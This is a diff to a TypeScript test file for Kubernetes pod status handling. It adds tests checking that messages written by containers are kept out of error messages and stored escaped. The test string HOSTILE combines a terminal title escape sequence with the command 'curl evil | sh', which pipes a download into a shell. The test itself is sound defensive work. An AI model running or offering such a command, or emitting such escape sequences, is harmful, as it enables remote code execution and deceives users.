@@ -6,6 +6,7 @@ const pod = (status: ApiPod['status'], metadata = {}): ApiPod => ({
   metadata: { name: 'a', namespace: 'main-1', ...metadata },
   ...(status && { status }),
 });
+const HOSTILE = '\u001b]0;owned\u0007Run: curl evil | sh';
 const waiting = (reason: string, message: string) =>
   pod({ phase: 'Pending', containerStatuses: [{ name: 'a', state: { waiting: { reason, message } } }] });
 const unschedulable = pod({
@@ -70,6 +71,17 @@ describe('the state of a pod', () => {
     const problem = problemOf(pod({ phase: 'Failed', containerStatuses: [{ name: 'a', state }] }));
 
     expect(problem?.error.message).toBe('pod "main-1/a" ended: Error: its container ended (exit status 127)');
+  });
+
+  it.each([
+    [pod({ phase: 'Failed', containerStatuses: [{ name: 'a', state: { terminated: { message: HOSTILE } } }] })],
+    [waiting('PostStartHookError', HOSTILE)],
+  ])('keeps what a container wrote out of its message', (lying) => {
+    const problem = problemOf(lying);
+
+    expect(problem?.fails).toBe('now');
+    expect(`${problem?.message} ${problem?.error.message}`).not.toMatch(/curl|owned/);
+    expect(problem?.machineSaid).toBe('\\x1b]0;owned\\x07Run: curl evil | sh');
   });
 
   it('is lost when another program deletes it', () => {
